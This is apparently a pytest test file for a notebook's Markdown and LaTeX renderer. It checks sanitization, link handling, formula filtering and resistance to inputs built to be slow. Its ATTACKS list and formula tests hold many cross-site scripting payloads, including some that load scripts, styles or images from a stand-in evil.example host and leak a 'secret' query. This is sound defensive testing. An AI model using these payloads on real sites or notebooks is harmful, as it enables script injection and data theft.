import html
import re
import time
from urllib.parse import urlsplit

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from pages import Page, read

from cyclops_nb.render.escape import MATH_OFF, json_block, label, text_block
from cyclops_nb.render.formulas import MATH_ON, MAX_FORMULAS
from cyclops_nb.render.highlight import CODE_CLASSES
from cyclops_nb.render.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, to_html
from cyclops_nb.render.text import visible

ANY_TEXT = st.text(st.characters(exclude_categories=()), max_size=300)
MARKS = [
    *(
        "[",
        "](",
        ")",
        "![",
        "<",
        ">",
        "`",
        "$",
        "$$",
        "\\(",
        "\\)",
        "\\[",
        "\\]",
        "\\",
        "|",
        "|-|",
        "*",
        "_",
        "~~",
        "#",
        "&lt;",
        "&#x6a;",
    ),
    *(
        '"',
        "'",
        "javascript:",
        "http://a/",
        "data:",
        "onload=",
        "{",
        "}",
        "\\href",
        "\\label{x}",
        "\\begin{align}",
        "\\end{align}",
        "<img ",
    ),
    *("style=", "a", "5", "- ", "> ", "1. ", "[a]: ", "```py\n", "\n", "\n\n", " ", "    ", "\u202e", "\x00"),
]
MARKUP = st.lists(st.sampled_from(MARKS), max_size=40).map("".join)

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<<script>alert(1)//<</script>",
    "<script/x>alert(1)</script",
    "<img src=x onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)>",
    "<img src='http://evil.example/?q=secret' srcset='http://evil.example/2 2x'>",
    "<svg onload=alert(1)><svg/onload=alert(1)>",
    "<svg><script xlink:href=data:,alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><iframe src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)><input autofocus onfocus=alert(1)><marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a><a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<style>@import 'http://evil.example/x.css'; .jp-Toolbar {display: none}</style>",
    "<div style='position:fixed;inset:0;background:url(http://evil.example/)'>x</div>",
    "<link rel=stylesheet href=http://evil.example/x.css><base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<a data-commandlinker-command='docmanager:delete-file' href='#'>x</a>",
    "<form id=document><input name=cookie></form><img name=getElementById>",
    "<video poster=http://evil.example/p><source src=x onerror=alert(1)></video>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object><embed src=x>",
    "</pre></code></div></td></tr></table></style></textarea></title><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>--> <![CDATA[<script>]]> <?php ?> <!DOCTYPE html>",
    "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](java\tscript:alert(1)) [w](&#106;avascript:alert(1))",
    "[x](vbscript:x) [y](data:text/html;base64,PHNjcmlwdD4=) [z](file:///etc/passwd) [w](blob:x) <javascript:alert(1)>",
    "[x](//evil.example) [y](/lab/api) [z](#a) [w](?a) [v](\\\\evil.example) [u](http:evil) [t](https:///x)",
    "[x]: javascript:alert(1)\n\n[x] ![x]",
    '[x](http://a.example "\\" onmouseover=\\"alert(1)") [y](http://a.example/"onmouseover="alert(1))',
    "![a](http://evil.example/?q=secret) ![b](//evil.example/x) ![c](data:image/svg+xml;base64,PHN2Zz4=) ![d](x.png)",
    "[![a](http://evil.example/a.png)](http://good.example) [a ![b](javascript:x)](http://good.example)",
    '```"><script>alert(1)</script>\nx\n```\n```html onload=x\n<script>alert(1)</script>\n```',
    "`<script>alert(1)</script>` ``</code><img src=x onerror=alert(1)>``",
    "| <script> | <img onerror=x> |\n|:-:|-:|\n| </td></table><script>alert(1)</script> | x |",
    "$\\href{javascript:alert(1)}{x}$ \\(\\class{jp-Toolbar}{x}\\) $$\\style{position:fixed}{x}$$ \\[\\cssId{x}{y}\\]",
    "$</span><script>alert(1)</script>$ \\[<img src=x onerror=alert(1)>\\]",
    "http://evil.example/<script> <http://evil.example/'onclick='x> <a@b.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;script&amp;gt; &#60;script&#62; &NewLine;&colon;",
]  # fmt: skip


def rendered(text, **settings):
    """Return Markdown as a page, after making sure that it has the elements and attributes of Markdown alone."""
    page = read(to_html(text, **settings))
    outer, *inner = page.elements
    assert outer == ("div", {"class": f"cy-md {MATH_OFF}"})
    for tag, attributes in inner:
        assert tag in ALLOWED_TAGS
        assert set(attributes) <= ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel", "target"} if tag == "a" else set())
        if "class" in attributes:
            assert attributes["class"] in {MATH_ON, "jp-toc-ignore", *CODE_CLASSES}
        if tag == "a" and "href" in attributes:
            assert attributes["rel"] == "noopener noreferrer"
            assert attributes["target"] == "_blank"
            assert urlsplit(attributes["href"]).scheme in {"http", "https", "mailto"}
    return page


def formulas(text):
    """Return the text of the formulas that are handed to MathJax."""
    return re.findall(rf'<(?:div|span) class="{MATH_ON}">(.*?)</(?:div|span)>', to_html(text), re.DOTALL)


def raw_text(output):
    """Return the text of some HTML, blanks and all."""
    return "".join(Page(output).texts)


class TestToHtml:
    """Markdown of models."""

    @pytest.mark.parametrize("attack", ATTACKS)
    def test_an_attack_does_nothing(self, attack):
        """No attack adds an element that acts, an attribute, or an address that is loaded or runs."""
        for text in (
            attack,
            f"- a\n\n  > {attack}",
            f"**{attack}**",
            f"[{attack}](http://a.example)",
            f"# {attack}",
            attack * 3,
        ):
            rendered(text)

    @pytest.mark.parametrize(
        "tag", ["<thinking>", "</thinking>", "<br>", "<img src=x onerror=y>", "<!-- x -->", "<a b='c'>", "<?x?>"]
    )
    def test_a_tag_is_shown(self, tag):
        """What looks like a tag is read, alone in a line and within one."""
        assert raw_text(to_html(f"{tag}\n\nso {tag} is **{tag}**")).count(tag) == 3

    @given(st.one_of(ANY_TEXT, MARKUP))
    @settings(max_examples=400, deadline=None)
    @example("\ud800 \udfff \x00 \r\r\n \u2028 \ufeff \uffff")
    def test_any_text_gives_html_that_only_shows(self, text):
        """Any text gives well-formed HTML of the allowed elements, the same each time."""
        assert rendered(text).elements
        assert to_html(text) == to_html(text)
        to_html(text).encode()

    @given(st.text("abc <>&\"'=/!?x", max_size=100).filter(str.strip))
    @settings(max_examples=200, deadline=None)
    def test_any_angle_bracket_survives(self, text):
        """Text with angle brackets comes out as it went in, but for blanks."""
        text = f"x{text}x".replace("&", "&amp;")
        assert "".join(raw_text(to_html(text)).split()) == "".join(text.replace("&amp;", "&").split())

    def test_writes_markdown(self):
        """CommonMark, tables, strikethrough and task lists are read."""
        page = rendered(
            "# a\n\n**b** *c* ~~d~~ `e`\n\n3. f\n\n> g\n\n---\n\n|h|i|\n|:-|-:|\n|j|k|\n\n- [x] l\n- [ ] m\n\n[n](https://o.example 'p')"
        )
        tags = {tag for tag, _ in page.elements}
        assert {"h1", "strong", "em", "s", "code", "ol", "blockquote", "hr", "table", "ul", "a"} <= tags
        assert page.tags("ol") == [{"start": "3"}]
        assert page.tags("td") == [{"style": "text-align:left"}, {"style": "text-align:right"}]
        assert "☑ l ☐ m" in page.text
        assert page.tags("a") == [
            {"href": "https://o.example", "title": "p", "rel": "noopener noreferrer", "target": "_blank"}
        ]

    def test_headings_are_below_that_of_their_message(self):
        """A screen reader hears a message as a whole; a notebook's table of contents has what its author wrote alone."""
        page = rendered("# a\n\n## b\n\nc\n=\n\n###### d")
        assert [page.tags(tag)[0]["aria-level"] for tag in ("h1", "h2", "h6")] == ["5", "6", "6"]
        assert {heading["class"] for tag in ("h1", "h2", "h6") for heading in page.tags(tag)} == {"jp-toc-ignore"}

    def test_a_link_that_may_not_be_clicked_is_shown_as_it_was_written(self):
        """Relative addresses and other schemes stay text."""
        text = "[x](javascript:alert(1)) and [y](/lab) and [z](//evil.example)"
        page = rendered(text)
        assert page.text == text
        assert not page.tags("a")

    def test_an_image_is_a_link_that_names_its_host(self):
        """A remote image is not fetched; within a link it is text."""
        page = rendered("![a *b*](http://evil.example/?q=secret) ![](https://c.example/d.png)")
        assert page.text == "image: a b (evil.example) image (c.example)"
        assert [link["href"] for link in page.tags("a")] == ["http://evil.example/?q=secret", "https://c.example/d.png"]
        page = rendered("[![build](https://badge.example/b.svg) ok](https://good.example)")
        assert page.text == "image: build (badge.example) ok"
        assert [link["href"] for link in page.tags("a")] == ["https://good.example"]

    def test_code_has_colours_without_styles(self):
        """A fence of a known language gets classes, its text stays as it was."""
        code = '\n\ndef f(x):  # why\n    return "a<b" + str(1)\n\n'
        page = rendered(f"```python\n{code}```")
        assert {attributes["class"] for attributes in page.tags("span")} == set(CODE_CLASSES) - {"cy-label"}
        assert code in raw_text(to_html(f"```python\n{code}```"))

    @given(
        ANY_TEXT.filter(lambda text: "```" not in text),
        st.sampled_from(["python", "bash", "json", "html", "yaml", "sql", "r", "latex"]),
    )
    @settings(max_examples=100, deadline=None)
    def test_any_code_keeps_its_text(self, code, language):
        """Colours never change a character of code."""
        assert visible(code).replace("\x00", "\ufffd") in raw_text(to_html(f"```{language}\n{code}\n```"))

    def test_code_of_other_languages_has_no_colours(self):
        """An unknown language is no error and loads nothing."""
        assert "<pre><code>x = 1\n</code></pre>" in to_html("```nonsense:../../x\nx = 1\n```")
        assert "<pre><code>x = 1\n</code></pre>" in to_html("```\nx = 1\n```")

    def test_much_code_has_no_colours(self):
        """Colours end where they would cost much time, the code does not."""
        page = rendered("```python\nx = 1\n```\n```python\n" + "y = 2\n" * 3000 + "```")
        assert len(page.tags("span")) == 1
        assert page.text.count("y = 2") == 3000

    def test_a_long_text_is_cut_in_the_middle(self):
        """Beginning and end are shown, between them how much is not, and a fence does not reach over the gap."""
        page = rendered_cut = read(to_html("```\nbegin" + "x" * 2_000_000 + "\n\n**end**"))
        assert page.text.startswith("begin")
        assert page.text.endswith("end")
        assert "… 1,900,018 characters left out …" in page.text
        assert rendered_cut.has_class("cy-cut")
        assert len(to_html("x" * 5_000_000)) < 101_000
        assert "x" * 200_000 in to_html("x" * 200_000, limit=None)

    def test_control_characters_are_seen(self):
        """What reorders or hides text is shown by name."""
        assert rendered("a\u202eb\x1b[0m `c\u2066`").text == "a⟨U+202E⟩b␛[0m c⟨U+2066⟩"


class TestFormulas:
    """Money and LaTeX."""

    @pytest.mark.parametrize(
        "text",
        [
            "It fell from $3,500 to $5,000", "`$HOME` and $PATH", "US$5", "```\na $ b $ c\n```", "a $ b $ c", "costs $5 to $10",
            "**$5** to **$10**", "$5 and then 10$", "$5M for us, 10$ for them", "5$/6$", "$HOME/$USER", "${A}/${B}", "$5-$10",
            "$5", "$$5 million", "$$", "$", "\\$5 and \\$6", "`$x$`", "\\\\(x\\\\)", "see \\[1\\] and \\[2, 3\\]", "\\( \\)", "$x`$y`",
            "a\\[b", "\\begin{nonsense}x\\end{nonsense}", "    $x$", "$a\n\nb$", "\\ref{x} \\\\",
        ],
    )  # fmt: skip
    def test_what_is_no_formula_stays_text(self, text):
        """Money, shell variables, code and escaped dollars are not handed to MathJax."""
        rendered(text)
        assert formulas(text) == []
        assert (
            "".join(text.replace("\\", "").split()).strip("`*")
            in "".join(raw_text(to_html(text)).replace("\\", "").split())
            or "*" in text
            or "`" in text
        )

    @pytest.mark.parametrize(
        "text",
        [
            "$E=mc^2$", "$x$", "$$x$$", "\\[ a \\]", "\\(a*b*c\\)", "\\[x\ny\\]", "$a_1 < b & c$", "$2x + 3y$", "$3 \\text{ kg}$",
            "\\begin{equation}x\\end{equation}", "\\begin{align*}\na &= b\\\\\nc &= d\n\\end{align*}", "$\\{1, 2\\}$", "$\\$5$", "$f'(x)$",
            "\\[\n= 5\n- b\n# c\n\\]", "$$\n\\begin{pmatrix}1 & 2\\\\3 & 4\\end{pmatrix}\n$$", "$\\mathbb{E}[x|y]$", "\\(\\ce{H2O}\\)",
        ],
    )  # fmt: skip
    def test_a_formula_is_handed_over_as_it_was_written(self, text):
        """Each of LaTeX's delimiters works, in a paragraph, a list, a quotation and by itself."""
        for around in ("{}", "so\n{}\nand", "- {}", "> {}"):
            prefix = {"- {}": "\n  ", "> {}": "\n> "}.get(around, "\n")
            (found,) = formulas(around.format(text.replace("\n", prefix)))
            assert html.unescape(found) == text

    def test_text_around_formulas_is_markdown(self):
        """Formulas stand in sentences, tables and beside each other."""
        assert formulas("|$a$|\n|-|\n|$b$|\n\n**$c$** for $5, $d$th, $e$-axis and $f$.") == [
            "$a$",
            "$b$",
            "$c$",
            "$d$",
            "$e$",
            "$f$",
        ]
        assert formulas("\\( open and \\(x\\)") == ["\\(x\\)"]

    @pytest.mark.parametrize(
        "inner",
        [
            "\\href{javascript:alert(1)}{x}", "\\bbox[background:url(http://evil.example)]{x}", "\\style{color:red}{x}", "\\class{a}{x}",
            "\\cssId{a}{x}", "\\data{commandlinker-command=x}{y}", "\\require{html}x", "\\def\\alpha{x}", "\\newcommand{\\x}{y}",
            "\\mmlToken{mi}[href='http://evil.example']{x}", "\\unicode[serif]{x}", "\\raise10em{x}", "\\Rule{9em}{9em}{9em}", "\\let\\x\\href",
            "\\csname href\\endcsname", "\\hr\\label{a}ef{javascript:x}", "\\begin{html}x\\end{html}", "{x", "x}", "}x{", "\\begin\\x",
        ],
    )  # fmt: skip
    def test_a_formula_that_does_more_than_draw_is_shown_as_it_was_written(self, inner):
        """Commands that link, style, load or define keep a formula from being typeset."""
        for text in (
            f"${inner}$",
            f"$${inner}$$",
            f"\\({inner}\\)",
            f"\\[\n{inner}\n\\]",
            f"\\begin{{gather}}{inner}\\end{{gather}}",
        ):
            assert formulas(text) == []
            assert inner in raw_text(to_html(text))

    def test_labels_are_left_out(self):
        """The same equation can be shown twice: labels, which must be unique in a page, are not handed over."""
        assert formulas("\\begin{equation}\\label{eq:1}x\\\\y\\end{equation}") == [
            "\\begin{equation}x\\\\y\\end{equation}"
        ]

    def test_many_formulas_are_not_all_typeset(self):
        """A browser is not made to typeset a text of nothing but formulas."""
        assert len(formulas("$x$ " * (MAX_FORMULAS + 5))) == MAX_FORMULAS


@pytest.mark.parametrize(
    "text",
    [
        "`" * 100_000, "> " * 50_000, "[" * 20_000, "![" * 10_000, "*" * 100_000, "*a " * 30_000, "- " * 50_000, "$a" * 50_000,
        "\\(" * 50_000, "\\[\n" * 30_000, "$$\n" * 30_000, "\\begin{align}\n" * 7_000, "<" * 100_000, "x" * 5_000_000, "[" * 5_000_000,
        "\n".join(" " * i + "- a" for i in range(400)), "|a" * 400 + "\n" + "|-" * 400 + "\n|" * 20_000, "".join("`" * i + " " for i in range(400)),
        "```python\n" + "\n " * 5_000, '```json\n"' + "\\" * 9_000, "$" + "1 " * 50_000 + "1$", "\\(" + "\\x" * 50_000,
    ],
    ids=lambda text: repr(text[:12]),
)  # fmt: skip
def test_a_hostile_text_does_not_hang(text):
    """Texts that are made to be slow cost seconds at the very most."""
    start = time.process_time()
    to_html(text)
    text_block(text)
    json_block(text)
    label(text)
    assert time.process_time() - start < 10


def test_a_long_answer_is_fast():
    """A text of 100 kB takes some tenths of a second on a slow machine."""
    paragraph = (
        "Of **3 epochs** the loss fell from 2.31 to $x_1$, which is what the paper says of `a` model of this size.\n\n"
    )
    text = paragraph * (100_000 // len(paragraph))
    to_html("warm")
    start = time.process_time()
    to_html(text)
    assert time.process_time() - start < 1
